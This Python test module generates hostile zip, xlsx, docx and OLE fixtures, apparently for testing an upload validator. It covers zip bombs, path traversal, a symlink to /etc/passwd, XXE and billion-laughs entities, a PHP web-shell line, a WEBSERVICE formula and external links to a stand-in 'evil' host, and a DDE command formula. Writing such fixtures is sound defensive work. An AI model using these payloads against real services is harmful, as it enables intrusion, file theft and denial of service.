"""Hostile archives and office files, built in code; every one is small on the disk."""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from tests.learning import scorm

CANARY = "canary-of-the-file-system"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
BOOK = {
    "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" ContentType='
    '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    "</Types>",
    "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="rId1" Type="{_REL}/officeDocument"'
    ' Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'<workbook xmlns="{_MAIN}" xmlns:r="{_REL}"><sheets><sheet name="A" sheetId="1" r:id="rId1"/>'
    "</sheets></workbook>",
    "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="rId1" '
    f'Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}
DOC = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}
XXE = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{{place}}/{CANARY}">]>'
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    + "]>"
)


def packed(parts: Mapping[str, str | bytes], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    return scorm.packed(dict(parts), kind)


def cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def book(
    rows: str = "", parts: Mapping[str, str | bytes] | None = None, prologue: str = "", head: str = _HEAD
) -> bytes:
    sheet = f'{head}{prologue}<worksheet xmlns="{_MAIN}"><sheetData>{rows}</sheetData></worksheet>'
    told: dict[str, str | bytes] = {name: _HEAD + body for name, body in BOOK.items()}
    return packed(told | {"xl/worksheets/sheet1.xml": sheet} | dict(parts or {}))


def line(*texts: str) -> str:
    return "<row r='1'>" + "".join(cell(f"{chr(65 + n)}1", text) for n, text in enumerate(texts)) + "</row>"


def package(extra: Mapping[str, str | bytes] | None = None, **more: str) -> bytes:
    """A SCORM package that would be taken but for what is added."""
    return packed({"imsmanifest.xml": scorm.manifest(**more), "index.html": scorm.page()} | dict(extra or {}))


def overlapping(times: int = 150, megabytes: int = 2) -> bytes:
    """Many names in the directory that all point at one packed block: 2 kB for hundreds of megabytes."""
    plain = packed({**BOOK, "xl/worksheets/sheet1.xml": "<worksheet/>", "xl/media/a.bin": b"\0" * megabytes * 2**20})
    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
        held, start = archive.getinfo("xl/media/a.bin"), archive.start_dir
    directory = plain[start : plain.rindex(b"PK\x05\x06")]
    told = struct.pack(
        "<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 0, 20, 0, 0, 8, 0, 33, held.CRC, held.compress_size, held.file_size,
        14, 0, 0, 0, 0, 0, held.header_offset,
    )  # fmt: skip
    directory += b"".join(told + f"xl/media/{n:05}"[:14].encode() for n in range(times))
    count = times + 6
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)
    return plain[:start] + directory + end


def lying(data: bytes | None = None) -> bytes:
    """The directory says ten bytes where three megabytes come out."""
    plain = data or book(parts={"xl/media/a.bin": b"\0" * 3 * 2**20})
    return plain.replace(struct.pack("<L", 3 * 2**20), struct.pack("<L", 10))


def nested(depth: int = 12) -> bytes:
    """A zip in a zip in a zip; the innermost one unpacks to ten megabytes."""
    inner = packed({"0.bin": b"\0" * 10 * 2**20})
    for n in range(depth):
        inner = packed({f"{n}.zip": inner, "imsmanifest.xml": scorm.manifest(), "xl/workbook.xml": "<workbook/>"})
    return inner


def special(mode: int, target: str) -> bytes:
    """A package in which one part is a link or a device."""
    out = io.BytesIO(package())
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("link.html")
        info.create_system, info.external_attr = 3, (mode | 0o777) << 16
        archive.writestr(info, target)
    return out.getvalue()


def twice() -> bytes:
    out = io.BytesIO(package())
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("x")
        info.filename = "index.html"
        archive.writestr(info, "<p>the other one</p>")
    return out.getvalue()


def locked(data: bytes) -> bytes:
    """Every part is marked as encrypted."""
    out = bytearray(data)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = -1
        while (place := out.find(mark, place + 1)) >= 0:
            out[place + at] |= 1
    return bytes(out)


def wrong_sum() -> bytes:
    """A stored part whose bytes were changed."""
    return packed({**BOOK, "xl/worksheets/sheet1.xml": "<worksheet>abcdef</worksheet>"}, zipfile.ZIP_STORED).replace(
        b"abcdef", b"abcxef"
    )


def unknown_method() -> bytes:
    return package().replace(b"\x14\x00\x00\x00\x08\x00", b"\x14\x00\x00\x00\x63\x00")


def ole(inside: bytes) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + inside + b"\xff" * 4096


def link(kind: str, target: str) -> str:
    return (
        f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1" Type="{_REL}/{kind}" Target="{target}"'
        ' TargetMode="External"/></Relationships>'
    )


EVIL = "http://192.0.2.66/evil"
FORMULA = '<row r="1"><c r="A1"><f>WEBSERVICE("http://192.0.2.66/evil")</f><v>1</v></c></row>'
Made = Callable[[], tuple[str, bytes]]
ARCHIVES: dict[str, Made] = {
    "bomb by ratio": lambda: ("danh-sach.xlsx", book(parts={"xl/media/a.bin": b"\0" * 30 * 2**20})),
    "bomb of overlapping parts": lambda: ("danh-sach.xlsx", overlapping()),
    "directory that lies": lambda: ("danh-sach.xlsx", lying()),
    "directory that lies, package": lambda: ("goi.zip", lying(package({"a.html": b"\0" * 3 * 2**20}))),
    "nested archives": lambda: ("goi.zip", nested()),
    "five thousand parts": lambda: ("goi.zip", packed({f"{n}.txt": "" for n in range(5001)}, zipfile.ZIP_STORED)),
    "path that leaves the folder": lambda: ("goi.zip", package({"../../../etc/cron.d/evil.html": "x"})),
    "path with backslashes": lambda: ("goi.zip", package({"..\\..\\evil.html": "x"})),
    "absolute path": lambda: ("goi.zip", package({"/etc/evil.html": "x"})),
    "drive letter": lambda: ("goi.zip", package({"C:\\evil.html": "x"})),
    "overlong path": lambda: ("goi.zip", package({"a" * 300 + ".html": "x"})),
    "control character in a path": lambda: ("goi.zip", package({"a\x07b.html": "x"})),
    "link in the zip": lambda: ("goi.zip", special(stat.S_IFLNK, "/etc/passwd")),
    "device in the zip": lambda: ("goi.zip", special(stat.S_IFCHR, "")),
    "the same part twice": lambda: ("goi.zip", twice()),
    "file and folder at once": lambda: ("goi.zip", package({"index.html/evil.html": "x"})),
    "encrypted zip": lambda: ("goi.zip", locked(package())),
    "encrypted workbook parts": lambda: ("danh-sach.xlsx", locked(book(line("a", "b")))),
    "zip cut in half": lambda: ("danh-sach.xlsx", book(line("a", "b"))[:400]),
    "wrong checksum": lambda: ("danh-sach.xlsx", wrong_sum()),
    "unknown packing": lambda: ("goi.zip", unknown_method()),
    "zip of something else": lambda: ("danh-sach.xlsx", packed({"a.txt": "x"})),
    "empty zip": lambda: ("danh-sach.xlsx", b"PK\x05\x06" + b"\0" * 18),
    "signature of a zip alone": lambda: ("danh-sach.xlsx", b"PK\x03\x04xx"),
    "manifest with entities": lambda: ("goi.zip", packed({"imsmanifest.xml": XXE + scorm.manifest(), "index.html": "x"})),
    "manifest of laughs": lambda: ("goi.zip", packed({"imsmanifest.xml": LAUGHS + scorm.manifest(), "index.html": "x"})),
    "package that starts a program": lambda: (
        "goi.zip", packed({"imsmanifest.xml": scorm.manifest([("I1", "Bài", "a.php", "")]), "a.php": "<?php system($_GET[0]);"}),
    ),
    "package that starts elsewhere": lambda: (
        "goi.zip", packed({"imsmanifest.xml": scorm.manifest([("I1", "Bài", EVIL, "")]), "index.html": "x"}),
    ),
    "workbook with external links": lambda: (
        "danh-sach.xlsx", book(FORMULA, {"xl/externalLinks/_rels/externalLink1.xml.rels": link("externalLinkPath", EVIL)}),
    ),
    "workbook with macros": lambda: ("danh-sach.xlsm", book(line("a", "b"), {"xl/vbaProject.bin": b"Sub Auto_Open"})),
    "workbook with a DDE formula": lambda: (
        "danh-sach.xlsx", book("<row r='1'><c r='A1'><f>cmd|'/C calc'!A0</f><v>1</v></c></row>"),
    ),
    "workbook with a script link": lambda: (
        "danh-sach.xlsx", book(line("Họ và tên", "x"), {"xl/worksheets/_rels/sheet1.xml.rels": link("hyperlink", "javascript:alert(1)")}),
    ),
    "workbook with an external entity": lambda: ("danh-sach.xlsx", book(line("&e;", "b"), prologue=XXE)),
    "workbook of laughs": lambda: ("danh-sach.xlsx", book(line("&j;", "b"), prologue=LAUGHS)),
    "DOCTYPE in UTF-16": lambda: (
        "danh-sach.xlsx", book(parts={"xl/worksheets/sheet1.xml": f'<?xml version="1.0" encoding="UTF-16"?>{XXE}<worksheet/>'.encode("utf-16")}),
    ),
    "cell in the far corner": lambda: (
        "danh-sach.xlsx", book(line("Họ và tên") + f'<row r="1048576">{cell("XFD1048576", "x")}</row>'),
    ),
    "cell of a megabyte": lambda: ("danh-sach.xlsx", book(line("a" * 2**20, "b"))),
    "deep markup": lambda: ("danh-sach.xlsx", book("<row>" * 20_000)),
    "macro sheet": lambda: ("danh-sach.xlsx", book(line("a", "b"), {"xl/macrosheets/sheet1.xml": "<worksheet/>"})),
    "text with a far template": lambda: (
        "bai.docx", packed({**DOC, "word/_rels/settings.xml.rels": link("attachedTemplate", f"{EVIL}.dotm")}),
    ),
    "text with macros": lambda: ("bai.docx", packed({**DOC, "word/vbaProject.bin": b"Sub AutoOpen"})),
    "text with an external entity": lambda: ("bai.docx", packed({**DOC, "word/document.xml": XXE + "<w/>"})),
    "text with an embedded program": lambda: ("bai.docx", packed({**DOC, "word/embeddings/oleObject1.bin": b"MZ\x90\0"})),
    "text with a form of ActiveX": lambda: ("bai.docx", packed({**DOC, "word/activeX/activeX1.bin": b"\0"})),
    "archive whose manifest is a bomb": lambda: (
        "hop.zip", packed({"manifest.json": b" " * 40 * 2**20, "manifest.sig.json": b"{}", "a.txt": "x"}),
    ),
    "archive with a wrong signature": lambda: (
        "hop.zip", packed({"manifest.json": '{"files": []}', "manifest.sig.json": '{"key": {"a": []}, "ed25519": "z1"}'}),
    ),
    "archive with a broken signature": lambda: (
        "hop.zip", packed({"manifest.json": "{}", "manifest.sig.json": "x" * 90}).replace(zlib.compress(b"x" * 90)[2:-4], b"\xff" * len(zlib.compress(b"x" * 90)[2:-4])),
    ),
    "OLE of nothing": lambda: ("danh-sach.xls", ole(b"")),
    "OLE that says Workbook": lambda: ("danh-sach.xls", ole("Workbook".encode("utf-16-le"))),
    "OLE with a password": lambda: ("danh-sach.xlsx", ole("EncryptedPackage".encode("utf-16-le"))),
    "gzip bomb": lambda: ("danh-sach.csv", b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + zlib.compress(b"\0" * 10**7)[2:-4] + b"\0" * 8),
}  # fmt: skip
